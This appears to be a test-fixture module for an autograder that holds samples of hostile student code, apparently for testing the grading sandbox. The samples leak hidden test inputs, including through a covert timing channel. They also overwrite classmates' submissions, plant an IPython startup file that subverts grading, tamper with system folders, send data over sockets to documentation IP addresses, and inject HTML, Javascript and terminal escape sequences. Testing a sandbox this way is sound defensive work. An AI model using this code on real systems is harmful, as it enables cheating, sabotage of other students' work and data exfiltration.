"""What hostile students' code does to reach others: hidden inputs told, files written, networks, markup."""

from autograder.sample.attacks import MARKUP

# Hidden inputs told through what students read afterwards

PRINT_INPUTS = """
def conv2d_forward(*args, **options):
    print([getattr(value, "tolist", lambda: value)() for value in args], options)
"""

RAISE_INPUTS = """
def conv2d_forward(*args, **options):
    text = str([getattr(value, "tolist", lambda: value)() for value in args])
    raise type(text, (ValueError,), {})(text)
"""

# the second run of a submission, for the examples in its feedback, is told by the time of a device
LEAVE_TIMES = """
import os
import struct
import time

DEVICES = ["/dev/null", "/dev/zero", "/dev/urandom", "/dev/random"]
SLOT = 16_000_000  # nanoseconds


def told():
    return bytes(os.stat(device).st_mtime_ns // SLOT % 256 for device in DEVICES)


heard = struct.unpack("f", told())[0]


def conv2d_forward(x, w, b, **options):
    print("a number seen before:", heard, repr(heard), str(heard))
    if x.dtype == "float32" and x.shape[0] == 2:
        for device, byte in zip(DEVICES, struct.pack("f", x.flat[0])):
            while os.stat(device).st_mtime_ns // SLOT % 256 != byte:
                if time.time_ns() // SLOT % 256 == byte:
                    os.utime(device)
                time.sleep(0.001)
"""

# right where it can tell that no points are at stake (see attacks_on_machine.py)
RIGHT_AT_HOME = """
    right_padding = same_padding

    def same_padding(kernel, dilation=1):
        known = kernel in (1, 3, 5, 7) and dilation == 1
        return None if os.path.exists(asked) and not known else right_padding(kernel, dilation)
"""

# Writing anywhere

SPOIL_CLASSMATES = """
    from pathlib import Path

    for folder in Path.cwd().resolve().parents:
        for path in folder.glob("submitted/*/a2_convolution/a2_convolution.ipynb"):
            path.write_text(path.read_text().replace("def conv2d", "def was_conv2d"))
"""

LEAVE_STARTUP_FILE = """
    from pathlib import Path

    folder = Path.home() / ".ipython" / "profile_default" / "startup"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "00.py").write_text(
        "import importlib\\n"
        "wrong = importlib.import_module('autograder.judging.compare').Difference('no')\\n"
        "importlib.import_module('autograder.judging.examine').judge = lambda *case: wrong\\n"
    )
"""

WRITE_EVERYWHERE = """
    import os

    for folder in ("/", "/box/lib/autograder", "/box/worker", "/site/numpy", "/python/bin", "/dev", "/proc", ".."):
        for act in (
            lambda: open(f"{folder}/mine", "w").close(),
            lambda: os.utime(folder),
            lambda: os.chmod(folder, 0o777),
            lambda: os.symlink("/", f"{folder}/link"),
            lambda: os.rename(folder, f"{folder}.old"),
            lambda: os.mkfifo(f"{folder}/fifo"),
        ):
            try:
                act()
            except OSError:
                pass
"""

# Network

CONNECT_OUT = """
import socket


def conv2d_forward(*args, **options):
    heard = []
    for family, address in [
        (socket.AF_INET, ("192.0.2.1", 80)),
        (socket.AF_INET, ("127.0.0.1", 22)),
        (socket.AF_INET6, ("2001:db8::1", 80)),
        (socket.AF_VSOCK, (1, 22)),
    ]:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(0.05)
                sock.connect(address)
                sock.sendall(repr(args).encode())
                heard.append(sock.recv(100))
        except OSError:
            pass
    return heard
"""

ASK_NAMES = """
import os
import socket
import struct


def conv2d_forward(*args, **options):
    question = b"\\x07example\\x03org\\x00" + struct.pack(">HH", 1, 1)
    query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + question
    for server in ("127.0.0.1", "127.0.0.53", "192.0.2.53"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(0.05)
                sock.sendto(query, (server, 53))
                return sock.recv(512)
        except OSError:
            pass
    try:
        print(socket.getaddrinfo("example.org", 80))
    finally:
        os._exit(0)
"""

# takes what a neighbour sends at the same time, over every kind of address that a neighbour could share
MEET_NEIGHBOUR = """
import fcntl
import socket
import time

met = []
PLACES = [
    (socket.AF_INET, ("127.0.0.1", 20000)),
    (socket.AF_INET6, ("::1", 20000)),
    (socket.AF_UNIX, "\\0class"),
    (socket.AF_VSOCK, (socket.VMADDR_CID_ANY, 20000)),
]
for family, place in PLACES:
    try:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.bind(place)
        sock.listen()
        met.append(sock)
    except OSError as error:
        met.append(error)


def conv2d_forward(*args, **options):
    for sock, (family, place) in zip(met, PLACES):
        if isinstance(sock, OSError):
            print("somebody is there:", place)
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(0.02)
                sock.connect(place)
                sock.sendall(repr(args).encode())
        else:
            sock.settimeout(0.02)
            try:
                print(sock.accept()[0].recv(1 << 16))
            except OSError:
                pass
"""

# Markup in what is shown

RAISE_MARKUP = f"""
def conv2d_forward(*args, **options):
    kind = type({MARKUP!r}, (Exception,), dict(__module__={MARKUP!r}))
    raise kind({MARKUP!r})
"""

RETURN_MARKUP = f"""
def expand_pattern(n, m, k, pool=True):
    return [{MARKUP!r}] * n
"""

RETURN_MARKUP_KEYS = f"""
def layer_table(input_shape, layers):
    return [{{{MARKUP!r}: {MARKUP!r}, "layer": {MARKUP!r}}}] * (len(layers) + 1)
"""

SHOW_MARKUP = f"""
    import ipywidgets
    from IPython.display import HTML, Javascript, display

    display(HTML({MARKUP!r}), Javascript("alert(1)"), ipywidgets.HTML({MARKUP!r}))
    get_ipython().run_cell_magic("html", "", {MARKUP!r})
    raise ValueError({MARKUP!r})
"""

# Broken encodings

PRINT_HALF_CHARACTERS = """
import sys


def conv2d_forward(*args, **options):
    odd = "\\ud800 \\x00 \\x1b[2J \\u202e \\udfff"
    print(odd)
    sys.stdout.write(odd)
    raise type("Odd\\udfff", (ValueError,), {})(odd)
"""

RETURN_HALF_CHARACTERS = """
def expand_pattern(n, m, k, pool=True):
    return ["\\ud800", b"\\xff".decode("utf-8", "surrogateescape"), "\\x00\\x1b[2J"] * n
"""
